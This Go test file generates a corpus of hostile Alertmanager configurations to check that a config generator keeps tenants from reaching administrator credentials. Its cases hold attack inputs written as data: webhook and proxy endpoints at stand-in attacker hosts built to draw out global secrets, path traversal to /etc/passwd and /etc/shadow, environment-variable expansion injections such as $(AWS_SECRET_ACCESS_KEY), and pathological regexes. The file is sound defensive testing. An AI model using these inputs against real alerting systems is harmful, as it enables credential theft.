package amcfg_test

import (
	"encoding/json"
	"fmt"
	"regexp"
	"sort"
	"strings"
	"testing"

	monitoringv1 "github.com/prometheus-operator/prometheus-operator/pkg/apis/monitoring/v1"
	monitoringv1alpha1 "github.com/prometheus-operator/prometheus-operator/pkg/apis/monitoring/v1alpha1"
	"github.com/prometheus/alertmanager/config"
	commoncfg "github.com/prometheus/common/config"
	yaml "go.yaml.in/yaml/v2"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	sigsyaml "sigs.k8s.io/yaml"

	"github.com/lookout-operator/lookout/pkg/alertmanager/amcfg"
)

// The AlertmanagerConfig bad-input corpus (issue 32), the sibling of the monitor and rule
// corpus of test/integration (corpus_test.go): hostile AlertmanagerConfigs and
// Alertmanager specs, generated here in families, each run through Generate and
// Alertmanager's own loader. Every case must end one of two ways:
//   - refused: Generate leaves the object out with a reason and a message (or, for an
//     Alertmanager spec, returns an error and the last good configuration is kept);
//   - accepted: the generated file loads in Alertmanager's loader, and once the loader has
//     filled in the global defaults no receiver of a tenant that sends to an endpoint or
//     through a proxy the tenant chose holds a credential of the administrator (the
//     GLOBAL-SECRET markers of the base configurations and the Alertmanager's Secrets),
//     and the file refers to no environment variable but $(POD_NAME).
// TestAMCorpusRealAlertmanager then loads all accepted tenant objects of the main base in
// one file with the real bin/alertmanager.
//
// Tenant-chosen hosts are under attacker.example, the administrator's under
// admin.example; every administrator credential holds "GLOBAL-SECRET", every tenant
// credential "TENANT-SECRET".

const (
	globalMark  = "GLOBAL-SECRET"
	attackHost  = "attacker.example"
	tenantNS    = "tenant"
	attackerURL = "https://hooks.attacker.example/collect"
	attackProxy = "http://proxy.attacker.example:3128"
)

// amWant is what a case must come to ("" when either outcome is fine).
type amWant string

const (
	amAny      amWant = ""
	amRefused  amWant = "refused"
	amAccepted amWant = "accepted"
)

// amCase is one hostile input.
type amCase struct {
	family, name string
	// base is the administrator's alertmanager.yaml (corpusBase when empty).
	base string
	// amSpec is the Alertmanager's spec (YAML), when the case is about it.
	amSpec string
	// global is the AlertmanagerConfig spec.alertmanagerConfiguration names (YAML spec,
	// in the monitoring namespace).
	global string
	// spec is the tenant's AlertmanagerConfig spec (YAML indented by two spaces); empty
	// for Alertmanager-only cases.
	spec string
	want amWant
}

// corpusBase is the administrator's configuration: a global section lending every
// credential Alertmanager can lend.
const corpusBase = `global:
  http_config:
    authorization: {credentials: GLOBAL-SECRET-http-authorization}
    proxy_url: http://proxy.admin.example:3128
    tls_config: {ca_file: /etc/admin/ca.crt}
  opsgenie_api_key: GLOBAL-SECRET-opsgenie
  opsgenie_api_url: https://api.opsgenie.admin.example/
  victorops_api_key: GLOBAL-SECRET-victorops
  victorops_api_url: https://victorops.admin.example/integrations/
  wechat_api_secret: GLOBAL-SECRET-wechat
  wechat_api_corp_id: corp
  wechat_api_url: https://wechat.admin.example/cgi-bin/
  telegram_bot_token: GLOBAL-SECRET-telegram
  telegram_api_url: https://telegram.admin.example
  slack_api_url: https://hooks.slack.admin.example/services/GLOBAL-SECRET-slack
  pagerduty_url: https://events.pagerduty.admin.example/v2/enqueue
  webex_api_url: https://webex.admin.example/v1/messages
  rocketchat_api_url: https://rocket.admin.example
  rocketchat_token: GLOBAL-SECRET-rocketchat-token
  rocketchat_token_id: GLOBAL-SECRET-rocketchat-id
  smtp_smarthost: smtp.admin.example:587
  smtp_from: alerts@admin.example
  smtp_auth_username: admin
  smtp_auth_password: GLOBAL-SECRET-smtp-password
  smtp_auth_secret: GLOBAL-SECRET-smtp-secret
  smtp_tls_config: {ca_file: /etc/admin/ca.crt, cert_file: /etc/admin/GLOBAL-SECRET-smtp.crt, key_file: /etc/admin/GLOBAL-SECRET-smtp.key}
route: {receiver: default}
receivers: [{name: default}]
`

// corpusBases are other global sections: every way the global http_config or a key can
// hold a credential, as a value or a file.
func corpusBases() map[string]string {
	tail := "route: {receiver: default}\nreceivers: [{name: default}]\n"
	return map[string]string{
		"basic-auth":      "global:\n  http_config:\n    basic_auth: {username: admin, password: GLOBAL-SECRET-basic}\n" + tail,
		"basic-auth-file": "global:\n  http_config:\n    basic_auth: {username: admin, password_file: /etc/admin/GLOBAL-SECRET-basic}\n" + tail,
		"bearer-file":     "global:\n  http_config:\n    authorization: {credentials_file: /etc/admin/GLOBAL-SECRET-token}\n" + tail,
		"oauth2":          "global:\n  http_config:\n    oauth2: {client_id: admin, client_secret: GLOBAL-SECRET-oauth2, token_url: https://sso.admin.example/token}\n" + tail,
		"client-cert":     "global:\n  http_config:\n    tls_config: {cert_file: /etc/admin/GLOBAL-SECRET.crt, key_file: /etc/admin/GLOBAL-SECRET.key}\n" + tail,
		"proxy-with-credentials": "global:\n  http_config:\n    proxy_url: http://admin:GLOBAL-SECRET-proxy@proxy.admin.example:3128\n    basic_auth: {username: admin, password: GLOBAL-SECRET-basic}\n" +
			"  opsgenie_api_key: GLOBAL-SECRET-opsgenie\n" + tail,
		"key-files": "global:\n  opsgenie_api_key_file: /etc/admin/GLOBAL-SECRET-opsgenie\n  victorops_api_key_file: /etc/admin/GLOBAL-SECRET-victorops\n" +
			"  victorops_api_url: https://victorops.admin.example/\n  wechat_api_secret_file: /etc/admin/GLOBAL-SECRET-wechat\n  wechat_api_corp_id: corp\n" +
			"  telegram_bot_token_file: /etc/admin/GLOBAL-SECRET-telegram\n  slack_api_url_file: /etc/admin/GLOBAL-SECRET-slack\n" +
			"  smtp_smarthost: smtp.admin.example:25\n  smtp_from: a@admin.example\n  smtp_auth_password_file: /etc/admin/GLOBAL-SECRET-smtp\n" +
			"  rocketchat_token_file: /etc/admin/GLOBAL-SECRET-rc\n  rocketchat_token_id_file: /etc/admin/GLOBAL-SECRET-rcid\n" + tail,
		"slack-app-token": "global:\n  slack_app_token: GLOBAL-SECRET-slack-app\n  slack_app_url: https://slack.admin.example/api/chat.postMessage\n" + tail,
	}
}

// corpusAssets are the Secrets: the tenant's own in its namespace, the administrator's in
// monitoring.
func corpusAssets() amcfg.MapAssets {
	a := amcfg.MapAssets{}
	for k, v := range map[string]string{
		"url": attackerURL, "token": "TENANT-SECRET-token", "key": "TENANT-SECRET-key",
		"user": "TENANT-SECRET-user", "password": "TENANT-SECRET-password",
		"ca.crt":  "-----BEGIN CERTIFICATE-----\nTENANT\n-----END CERTIFICATE-----\n",
		"tls.crt": "-----BEGIN CERTIFICATE-----\nTENANT\n-----END CERTIFICATE-----\n",
		"tls.key": "-----BEGIN PRIVATE KEY-----\nTENANT-SECRET\n-----END PRIVATE KEY-----\n",
		"env-url": "https://hooks.attacker.example/$(HTTPS_PROXY)", "pod-url": "https://hooks.attacker.example/$(POD_NAME)",
		"env-token": "$(AWS_SECRET_ACCESS_KEY)", "nested": "$($(HTTPS_PROXY))", "newline": "TENANT-SECRET\nbad: [", "huge": strings.Repeat("T", 1<<20),
		"not-url": "hooks.attacker.example/no-scheme", "ftp-url": "ftp://attacker.example/x", "userinfo-url": "https://u:TENANT-SECRET@hooks.attacker.example/x",
		"empty": "", "global-lookalike": "https://hooks.slack.admin.example.attacker.example/services/x",
	} {
		a["secret/"+tenantNS+"/s/"+k] = v
	}
	long := strings.Repeat("s", 253)
	a["secret/"+tenantNS+"/"+long+"/ca.crt"] = "-----BEGIN CERTIFICATE-----\nLONG\n-----END CERTIFICATE-----\n"
	a["secret/"+tenantNS+"/"+long+"/"+strings.Repeat("k", 253)] = "-----BEGIN CERTIFICATE-----\nLONGKEY\n-----END CERTIFICATE-----\n"
	a["secret/"+tenantNS+"/../../../etc/passwd"] = "root:x:0:0"
	a["secret/"+tenantNS+"/../ca.crt"] = "-----BEGIN CERTIFICATE-----\nDOTDOT\n-----END CERTIFICATE-----\n"
	a["secret/"+tenantNS+"/s/../../../../etc/shadow"] = "-----BEGIN CERTIFICATE-----\nSHADOW\n-----END CERTIFICATE-----\n"
	a["secret/"+tenantNS+"/./.."] = "-----BEGIN CERTIFICATE-----\nDOTS\n-----END CERTIFICATE-----\n"
	for k, v := range map[string]string{
		"http-token": "GLOBAL-SECRET-spec-http", "opsgenie": "GLOBAL-SECRET-spec-opsgenie", "slack": "https://hooks.slack.admin.example/GLOBAL-SECRET-spec-slack",
		"smtp": "GLOBAL-SECRET-spec-smtp", "victorops": "GLOBAL-SECRET-spec-victorops", "telegram": "GLOBAL-SECRET-spec-telegram",
		"wechat": "GLOBAL-SECRET-spec-wechat", "rc": "GLOBAL-SECRET-spec-rc", "mm": "https://mm.admin.example/hooks/GLOBAL-SECRET-spec-mm",
		"env": "$(HTTPS_PROXY)", "not-url": "not a url", "newline": "GLOBAL-SECRET\nx: [",
	} {
		a["secret/monitoring/g/"+k] = v
	}
	return a
}

// q quotes s for YAML.
func q(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// rcv is a spec with a route to receiver r and r's configs of one kind (body: list items
// indented by four spaces).
func rcv(kind, body string) string {
	return "  route:\n    receiver: r\n  receivers:\n  - name: r\n    " + kind + ":\n" + strings.TrimLeft(body, "\n")
}

// withRoute is a spec with a route to receiver r (no integrations) plus more (route
// fields indented by four spaces, then top-level spec fields).
func withRoute(route, rest string) string {
	s := "  route:\n    receiver: r\n"
	if route != "" {
		s += route + "\n"
	}
	s += "  receivers:\n  - name: r\n"
	if rest != "" {
		s += rest + "\n"
	}
	return s
}

// matcherRoute is a spec whose route has one matcher.
func matcherRoute(name, value, typ string) string {
	return withRoute("    matchers: [{name: "+q(name)+", value: "+q(value)+", matchType: "+q(typ)+"}]", "")
}

// interval is a spec with a route muted by time interval t.
func interval(body string) string {
	return withRoute("    muteTimeIntervals: [t]", "  muteTimeIntervals:\n  - name: t\n    timeIntervals:\n"+body)
}

// Tenant http configs that route a request of an integration to an endpoint it keeps
// (the global one) through a proxy of the tenant, verifying no certificate.
const (
	viaProxy    = "      httpConfig: {proxyUrl: \"" + attackProxy + "\", tlsConfig: {insecureSkipVerify: true}}\n"
	viaProxyOld = "      httpConfig: {proxyURL: \"" + attackProxy + "\"}\n"
)

func corpusCases() []amCase {
	var cs []amCase
	add := func(family, name, spec string, want amWant) {
		cs = append(cs, amCase{family: family, name: name, spec: spec, want: want})
	}

	// Endpoints: every integration pointed at the tenant's server with no credential of
	// its own, at the global endpoint through the tenant's proxy, and at the tenant's
	// server with an http_config of its own.
	type integ struct{ kind, own, global string }
	integs := []integ{
		{"webhookConfigs", "    - url: " + attackerURL + "\n", ""},
		{"webhookConfigs", "    - urlSecret: {name: s, key: url}\n", ""},
		{"slackConfigs", "    - apiURL: {name: s, key: url}\n", "    - channel: '#x'\n"},
		{"pagerdutyConfigs", "    - routingKey: {name: s, key: key}\n      url: " + attackerURL + "\n", "    - routingKey: {name: s, key: key}\n"},
		{"opsgenieConfigs", "    - apiURL: " + attackerURL + "\n", "    - message: m\n"},
		{"victoropsConfigs", "    - apiURL: " + attackerURL + "\n      routingKey: k\n", "    - routingKey: k\n"},
		{"emailConfigs", "    - to: x@attacker.example\n      smarthost: smtp.attacker.example:25\n", ""},
		{"pushoverConfigs", "    - userKey: {name: s, key: user}\n      token: {name: s, key: token}\n", ""},
		{"wechatConfigs", "    - apiURL: " + attackerURL + "\n      corpID: c\n", "    - corpID: c\n"},
		{"telegramConfigs", "    - apiURL: " + attackerURL + "\n      chatID: 1\n", "    - chatID: 1\n"},
		{"discordConfigs", "    - apiURL: {name: s, key: url}\n", ""},
		{"msteamsConfigs", "    - webhookUrl: {name: s, key: url}\n", ""},
		{"msteamsv2Configs", "    - webhookURL: {name: s, key: url}\n", ""},
		{"webexConfigs", "    - apiURL: " + attackerURL + "\n      roomID: r\n      httpConfig: {authorization: {credentials: {name: s, key: token}}}\n",
			"    - roomID: r\n      httpConfig: {proxyUrl: \"" + attackProxy + "\", authorization: {credentials: {name: s, key: token}}}\n"},
		{"rocketchatConfigs", "    - apiURL: " + attackerURL + "\n      token: {name: s, key: token}\n      tokenID: {name: s, key: user}\n",
			"    - token: {name: s, key: token}\n      tokenID: {name: s, key: user}\n"},
		{"snsConfigs", "    - apiURL: " + attackerURL + "\n      topicARN: arn:aws:sns:eu-west-1:1:t\n", ""},
	}
	for i, in := range integs {
		n := fmt.Sprintf("%s-%d", strings.TrimSuffix(in.kind, "Configs"), i)
		add("endpoint", n+"-own-endpoint", rcv(in.kind, in.own), amAny)
		if in.kind != "emailConfigs" && in.kind != "webexConfigs" {
			add("endpoint", n+"-own-endpoint-own-http-config", rcv(in.kind, in.own+"      httpConfig: {tlsConfig: {insecureSkipVerify: true}}\n"), amAny)
		}
		if in.global != "" {
			hc := viaProxy
			if strings.Contains(in.global, "httpConfig") {
				hc = ""
			}
			add("endpoint", n+"-global-endpoint-tenant-proxy", rcv(in.kind, in.global+hc), amAny)
			if hc != "" {
				add("endpoint", n+"-global-endpoint-tenant-proxy-old-field", rcv(in.kind, in.global+viaProxyOld), amAny)
			}
		}
	}
	add("endpoint", "email-global-smarthost-tenant-recipient", rcv("emailConfigs", "    - to: x@attacker.example\n"), amAccepted)
	add("endpoint", "email-own-smarthost-insecure-tls", rcv("emailConfigs", "    - to: x@attacker.example\n      smarthost: smtp.attacker.example:25\n      tlsConfig: {insecureSkipVerify: true}\n"), amAccepted)
	add("endpoint", "slack-url-looks-like-global", rcv("slackConfigs", "    - apiURL: {name: s, key: global-lookalike}\n"), amAccepted)
	add("endpoint", "webhook-userinfo-in-url", rcv("webhookConfigs", "    - urlSecret: {name: s, key: userinfo-url}\n"), amAccepted)
	add("endpoint", "webhook-oauth2-token-url-attacker", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig:\n        oauth2: {clientId: {secret: {name: s, key: user}}, clientSecret: {name: s, key: password}, tokenUrl: https://sso.attacker.example/token}\n"), amAccepted)
	add("endpoint", "webhook-proxy-connect-header", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig:\n        proxyUrl: "+attackProxy+"\n        proxyConnectHeader: {X-A: [{name: s, key: token}]}\n"), amAny)
	add("endpoint", "webhook-proxy-from-environment", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig: {proxyFromEnvironment: true}\n"), amAny)
	add("endpoint", "opsgenie-global-endpoint-tenant-ca", rcv("opsgenieConfigs", "    - message: m\n      httpConfig: {proxyUrl: \""+attackProxy+"\", tlsConfig: {ca: {secret: {name: s, key: ca.crt}}}}\n"), amAny)
	add("endpoint", "opsgenie-api-url-ftp", rcv("opsgenieConfigs", "    - apiURL: ftp://attacker.example/\n"), amRefused)
	add("endpoint", "slack-url-secret-not-url", rcv("slackConfigs", "    - apiURL: {name: s, key: not-url}\n"), amRefused)
	add("endpoint", "slack-url-secret-ftp", rcv("slackConfigs", "    - apiURL: {name: s, key: ftp-url}\n"), amRefused)
	add("endpoint", "slack-url-secret-empty", rcv("slackConfigs", "    - apiURL: {name: s, key: empty}\n"), amAny)
	add("endpoint", "webhook-proxy-url-bad", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig: {proxyUrl: \"socks9://x\"}\n"), amRefused)
	add("endpoint", "telegram-bot-token-file-etc-passwd", rcv("telegramConfigs", "    - botTokenFile: /etc/passwd\n      chatID: 1\n      apiURL: "+attackerURL+"\n"), amRefused)
	add("endpoint", "pushover-token-file-global-secret", rcv("pushoverConfigs", "    - userKeyFile: /etc/admin/GLOBAL-SECRET-x\n      tokenFile: /etc/alertmanager/config/alertmanager.yaml.gz\n"), amRefused)

	// Sizes.
	huge := strings.Repeat("A", 1<<20)
	add("size", "slack-title-1MiB", rcv("slackConfigs", "    - apiURL: {name: s, key: url}\n      title: "+q(huge)+"\n"), amAny)
	add("size", "webhook-url-64KiB", rcv("webhookConfigs", "    - url: "+q(attackerURL+"/"+strings.Repeat("p", 64<<10))+"\n"), amAny)
	add("size", "receiver-name-10KiB", "  route:\n    receiver: "+q(strings.Repeat("r", 10<<10))+"\n  receivers:\n  - name: "+q(strings.Repeat("r", 10<<10))+"\n", amAny)
	add("size", "secret-value-1MiB-as-token", rcv("pushoverConfigs", "    - userKey: {name: s, key: huge}\n      token: {name: s, key: huge}\n"), amAny)
	add("size", "secret-name-253-in-tls-config", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig: {tlsConfig: {ca: {secret: {name: "+strings.Repeat("s", 253)+", key: ca.crt}}}}\n"), amAccepted)
	add("size", "secret-name-and-key-253-in-tls-config", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig: {tlsConfig: {ca: {secret: {name: "+strings.Repeat("s", 253)+", key: "+strings.Repeat("k", 253)+"}}}}\n"), amAccepted)
	{
		var b strings.Builder
		b.WriteString("  route:\n    receiver: r0\n  receivers:\n")
		for i := 0; i < 2000; i++ {
			fmt.Fprintf(&b, "  - name: r%d\n    webhookConfigs: [{url: %q}]\n", i, fmt.Sprintf("%s/%d", attackerURL, i))
		}
		add("size", "2000-receivers", b.String(), amAny)
	}
	{
		route := "    receiver: r\n"
		indent := "    "
		for i := 0; i < 60; i++ {
			route += indent + "routes:\n" + indent + "- receiver: r\n"
			indent += "  "
		}
		add("size", "routes-nested-60-deep", "  route:\n"+route+"  receivers:\n  - name: r\n", amAny)
	}
	{
		var m strings.Builder
		for i := 0; i < 500; i++ {
			fmt.Fprintf(&m, "{name: l%d, value: v, matchType: '='},", i)
		}
		add("size", "500-matchers", withRoute("    matchers: ["+strings.TrimSuffix(m.String(), ",")+"]", ""), amAny)
	}
	add("size", "slack-500-fields", rcv("slackConfigs", "    - apiURL: {name: s, key: url}\n      fields: ["+strings.Repeat("{title: t, value: v},", 499)+"{title: t, value: v}]\n"), amAny)

	// Names: receivers, routes and Secret keys that look like paths or break YAML.
	for i, n := range []string{"../../etc/passwd", "/etc/passwd", "a/b/c", ".", "..", "x\ny: [", "\"quoted\"", "'single'", "#comment", "{flow: map}", "- list", "ünïcødé-名前", "tab\there", "nul\x00byte", "$(POD_NAME)", "null", "~", "default"} {
		add("name", fmt.Sprintf("receiver-name-%d", i), "  route:\n    receiver: "+q(n)+"\n  receivers:\n  - name: "+q(n)+"\n    webhookConfigs: [{url: "+attackerURL+"}]\n", amAny)
	}
	add("name", "tls-secret-name-dotdot", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig: {tlsConfig: {ca: {secret: {name: '..', key: ca.crt}}}}\n"), amAny)
	add("name", "tls-secret-key-traversal", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig: {tlsConfig: {ca: {secret: {name: s, key: ../../../../etc/shadow}}}}\n"), amAny)
	add("name", "tls-secret-name-traversal", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig: {tlsConfig: {ca: {secret: {name: ../../.., key: etc/passwd}}}}\n"), amAny)
	add("name", "tls-secret-name-dot-key-dotdot", rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig: {tlsConfig: {ca: {secret: {name: '.', key: '..'}}}}\n"), amAny)
	add("name", "duplicate-receiver", "  route:\n    receiver: r\n  receivers:\n  - name: r\n  - name: r\n", amRefused)
	add("name", "receiver-named-like-another-objects", "  route:\n    receiver: \"r\"\n  receivers:\n  - name: \"r\"\n  - name: \"../other/r\"\n", amAny)
	add("name", "route-to-unknown-receiver", withRoute("    routes: [{receiver: nope}]", ""), amRefused)
	add("name", "route-to-base-receiver", "  route:\n    receiver: default\n  receivers:\n  - name: r\n", amRefused)

	// Matchers.
	for i, m := range [][3]string{
		{"a", "(a+)+$", "=~"}, {"a", ".*", "=~"}, {"a", "", "="}, {"a", "[", "=~"}, {"a", "(?i)é|\\p{Greek}", "=~"},
		{"a", "^anchored$", "=~"}, {"a", "x\ny", "="}, {"a", "\"}, namespace=\"other", "="}, {"a", "a,b=c", "!="},
		{"namespace", "other", "="}, {"namespace", ".*", "=~"}, {"ünï cødé", "v", "="}, {"", "v", "="}, {"a b", "v", "!~"},
		{"a", strings.Repeat("(", 1000), "=~"}, {"a", strings.Repeat("a?", 2000) + strings.Repeat("a", 2000), "=~"},
		{"a", "\\", "=~"}, {"a", "$(HTTPS_PROXY)", "="}, {"a", "\u202e\u0000", "="}, {"a", "b", "==="},
	} {
		add("matcher", fmt.Sprintf("route-matcher-%d", i), matcherRoute(m[0], m[1], m[2]), amAny)
	}
	add("matcher", "route-legacy-match-regex", withRoute("    routes: [{receiver: r, matchers: [{name: a, value: '(', regex: true}]}]", ""), amRefused)
	add("matcher", "inhibit-odd-matchers", withRoute("", "  inhibitRules:\n  - sourceMatch: [{name: namespace, value: other}]\n    targetMatch: [{name: 'a\"b', value: '.*', matchType: '=~'}]\n    equal: ['ünï', '', 'a b']"), amAny)
	add("matcher", "inhibit-empty", withRoute("", "  inhibitRules:\n  - {}"), amAny)
	add("matcher", "inhibit-bad-regex", withRoute("", "  inhibitRules:\n  - sourceMatch: [{name: a, value: '[', matchType: '=~'}]"), amRefused)
	add("matcher", "inhibit-env-ref", withRoute("", "  inhibitRules:\n  - sourceMatch: [{name: a, value: '$(HOME)'}]"), amRefused)

	// $(…) references, which the config-reloader expands with its own environment.
	for i, s := range []struct {
		spec string
		want amWant
	}{
		{rcv("webhookConfigs", "    - url: https://hooks.attacker.example/$(HTTPS_PROXY)\n"), amRefused},
		{rcv("webhookConfigs", "    - urlSecret: {name: s, key: env-url}\n"), amRefused},
		{rcv("webhookConfigs", "    - urlSecret: {name: s, key: pod-url}\n"), amAccepted},
		{rcv("webhookConfigs", "    - url: https://hooks.attacker.example/$(POD_NAME)\n"), amAccepted},
		{rcv("slackConfigs", "    - apiURL: {name: s, key: url}\n      text: '$(AWS_SECRET_ACCESS_KEY)'\n"), amRefused},
		{rcv("slackConfigs", "    - apiURL: {name: s, key: url}\n      text: '$($(HTTPS_PROXY))'\n"), amRefused},
		{rcv("slackConfigs", "    - apiURL: {name: s, key: url}\n      text: '$(POD_NAME$(HTTPS_PROXY))'\n"), amRefused},
		{rcv("slackConfigs", "    - apiURL: {name: s, key: url}\n      text: '$$(HTTPS_PROXY)'\n"), amRefused},
		{rcv("slackConfigs", "    - apiURL: {name: s, key: url}\n      text: '$(https_proxy) $(X'\n"), amRefused},
		{rcv("slackConfigs", "    - apiURL: {name: s, key: url}\n      text: '$( HTTPS_PROXY ) ${HTTPS_PROXY} $HTTPS_PROXY'\n"), amAccepted},
		{rcv("pushoverConfigs", "    - userKey: {name: s, key: env-token}\n      token: {name: s, key: nested}\n"), amRefused},
		{rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig:\n        proxyUrl: "+attackProxy+"\n        proxyConnectHeader: {X-A: [{name: s, key: env-token}]}\n"), amRefused},
		{rcv("emailConfigs", "    - to: x@attacker.example\n      headers: [{key: '$(SMTP_PASSWORD)', value: v}]\n"), amRefused},
		{"  route:\n    receiver: '$(HOSTNAME)'\n  receivers:\n  - name: '$(HOSTNAME)'\n", amRefused},
		{withRoute("    muteTimeIntervals: ['$(TZ)']", "  muteTimeIntervals:\n  - name: '$(TZ)'"), amRefused},
		{matcherRoute("a", "$(POD_NAME)", "="), amAccepted},
		{rcv("webhookConfigs", "    - url: "+attackerURL+"\n      httpConfig: {basicAuth: {username: {name: s, key: user}, password: {name: s, key: env-token}}}\n"), amRefused},
	} {
		add("env", fmt.Sprintf("env-ref-%d", i), s.spec, s.want)
	}

	// Time intervals.
	for i, ti := range []struct {
		body string
		want amWant
	}{
		{"    - times: [{startTime: '10:00', endTime: '09:00'}]", amRefused},
		{"    - times: [{startTime: '00:00', endTime: '24:00'}]", amAccepted},
		{"    - times: [{startTime: '24:00', endTime: '24:01'}]", amRefused},
		{"    - weekdays: ['sunday:monday']", amAny},
		{"    - weekdays: ['monday:sunday', 'Friday', 'x:y']", amRefused},
		{"    - daysOfMonth: [{start: -40, end: 50}]", amRefused},
		{"    - daysOfMonth: [{start: 10, end: 1}]", amRefused},
		{"    - daysOfMonth: [{start: 0, end: 0}]", amAny},
		{"    - months: ['13', 'january:december', 'dec:jan']", amRefused},
		{"    - years: ['0:99999', '2030:2020']", amRefused},
		{"    - years: ['-1']", amAny},
		{"    - {}", amAny},
	} {
		add("interval", fmt.Sprintf("time-interval-%d", i), interval(ti.body), ti.want)
	}
	add("interval", "duplicate-interval", withRoute("", "  muteTimeIntervals:\n  - name: t\n  - name: t"), amRefused)
	add("interval", "active-unknown-interval", withRoute("    activeTimeIntervals: [nope]", ""), amRefused)
	add("interval", "interval-name-path", withRoute("    muteTimeIntervals: ['../../etc/localtime']", "  muteTimeIntervals:\n  - name: '../../etc/localtime'"), amAny)
	add("route", "group-wait-negative", withRoute("    groupWait: -1s", ""), amRefused)
	add("route", "repeat-interval-huge", withRoute("    repeatInterval: 999999999y", ""), amAny)
	add("route", "group-by-odd", withRoute("    groupBy: ['...', 'alertname', '...', 'ünï', '']", ""), amAny)
	add("route", "continue-at-top", withRoute("    continue: true", ""), amAny)

	// The global section from the Alertmanager's spec (and an AlertmanagerConfig it
	// names) instead of a base Secret: the same attacks, and hostile spec values.
	specGlobal := `alertmanagerConfiguration:
  name: global
  global:
    httpConfig: {authorization: {credentials: {name: g, key: http-token}}}
    opsGenieApiKey: {name: g, key: opsgenie}
    slackApiUrl: {name: g, key: slack}
    smtp: {from: a@admin.example, smartHost: {host: smtp.admin.example, port: "25"}, authUsername: admin, authPassword: {name: g, key: smtp}, authSecret: {name: g, key: smtp}}
    victorops: {apiKey: {name: g, key: victorops}, apiURL: "https://victorops.admin.example/"}
    telegram: {botToken: {name: g, key: telegram}}
    wechat: {apiSecret: {name: g, key: wechat}, apiCorpID: corp}
    rocketChat: {token: {name: g, key: rc}, tokenID: {name: g, key: rc}}
    mattermost: {webhookURL: {name: g, key: mm}}
`
	globalAMC := "  route:\n    receiver: admin\n  receivers:\n  - name: admin\n    opsgenieConfigs: [{message: m}]\n"
	for _, in := range integs {
		if in.kind == "webhookConfigs" {
			continue
		}
		cs = append(cs, amCase{family: "spec", name: "spec-global-" + strings.TrimSuffix(in.kind, "Configs") + "-own-endpoint", amSpec: specGlobal, global: globalAMC, spec: rcv(in.kind, in.own)})
		if in.global != "" && !strings.Contains(in.global, "httpConfig") {
			cs = append(cs, amCase{family: "spec", name: "spec-global-" + strings.TrimSuffix(in.kind, "Configs") + "-tenant-proxy", amSpec: specGlobal, global: globalAMC, spec: rcv(in.kind, in.global+viaProxy)})
		}
	}
	cs = append(cs, amCase{family: "spec", name: "spec-global-webhook", amSpec: specGlobal, global: globalAMC, spec: rcv("webhookConfigs", integs[0].own), want: amAccepted})
	adminAMC := "  route:\n    receiver: admin\n  receivers:\n  - name: admin\n    webhookConfigs: [{url: 'https://hooks.admin.example/'}]\n"
	for i, s := range []struct {
		spec string
		want amWant
	}{
		{"version: garbage", amRefused},
		{"version: v0.0.1", amAny},
		{"version: v99.0.0", amAny},
		{"alertmanagerConfigMatcherStrategy: {type: None}", amAny},
		{"alertmanagerConfigMatcherStrategy: {type: Bogus}", amAny},
		{"alertmanagerConfigFileSystemMode: Bogus", amAny},
		{"alertmanagerConfiguration:\n  global:\n    resolveTimeout: 999999999y", amAny},
		{"alertmanagerConfiguration:\n  global:\n    slackApiUrl: {name: g, key: not-url}", amRefused},
		{"alertmanagerConfiguration:\n  global:\n    slackApiUrl: {name: g, key: nope}", amRefused},
		{"alertmanagerConfiguration:\n  global:\n    opsGenieApiKey: {name: g, key: newline}", amAny},
		{"alertmanagerConfiguration:\n  global:\n    smtp: {smartHost: {host: '$(HTTPS_PROXY)', port: '25'}}", amAny},
		{"alertmanagerConfiguration:\n  global:\n    smtp: {smartHost: {host: 'a:b:c', port: 'x'}}", amAny},
		{"alertmanagerConfiguration:\n  global:\n    httpConfig: {proxyUrl: 'socks9://x'}", amRefused},
		{"alertmanagerConfiguration:\n  global:\n    pagerdutyUrl: 'ftp://x'", amRefused},
		{"alertmanagerConfiguration:\n  templates: [{secret: {name: t, key: '..'}}]", amRefused},
		{"alertmanagerConfiguration:\n  templates: [{configMap: {name: t, key: 'a/b.tmpl'}}]", amRefused},
		{"alertmanagerConfiguration:\n  templates: [{secret: {name: '../t', key: 'a.tmpl'}}]", amRefused},
		{"alertmanagerConfiguration:\n  templates: [{configMap: {name: t, key: 'ok.tmpl'}}]", amAccepted},
		{"alertmanagerConfiguration:\n  templates: [{secret: {name: t, key: a}, configMap: {name: t, key: a}}]", amRefused},
		{"alertmanagerConfiguration:\n  name: missing", amAny},
	} {
		c := amCase{family: "spec", name: fmt.Sprintf("spec-field-%d", i), amSpec: s.spec, want: s.want,
			spec: rcv("webhookConfigs", "    - url: "+attackerURL+"\n")}
		if strings.Contains(s.spec, "name: missing") {
			c.global = ""
		} else if strings.Contains(s.spec, "alertmanagerConfiguration") {
			c.global = adminAMC
		}
		cs = append(cs, c)
	}

	// Every other global section, with every integration at the tenant's endpoint and
	// at the global endpoint through the tenant's proxy.
	bases := corpusBases()
	names := make([]string, 0, len(bases))
	for n := range bases {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		for i, in := range integs {
			kind := fmt.Sprintf("%s-%d", strings.TrimSuffix(in.kind, "Configs"), i)
			cs = append(cs, amCase{family: "base", name: "base-" + n + "-" + kind + "-own-endpoint", base: bases[n], spec: rcv(in.kind, in.own)})
			if in.global != "" && !strings.Contains(in.global, "httpConfig") {
				cs = append(cs, amCase{family: "base", name: "base-" + n + "-" + kind + "-tenant-proxy", base: bases[n], spec: rcv(in.kind, in.global+viaProxy)})
			}
		}
	}
	return cs
}

// objName is the case's object name (DNS-safe, unique).
func objName(i int) string { return fmt.Sprintf("c%03d", i) }

// amOutcome is what Generate did with one case.
type amOutcome struct {
	refused bool
	reason  string
	res     *amcfg.Result
}

func (c amCase) input(t *testing.T, i int) (amcfg.Input, bool) {
	t.Helper()
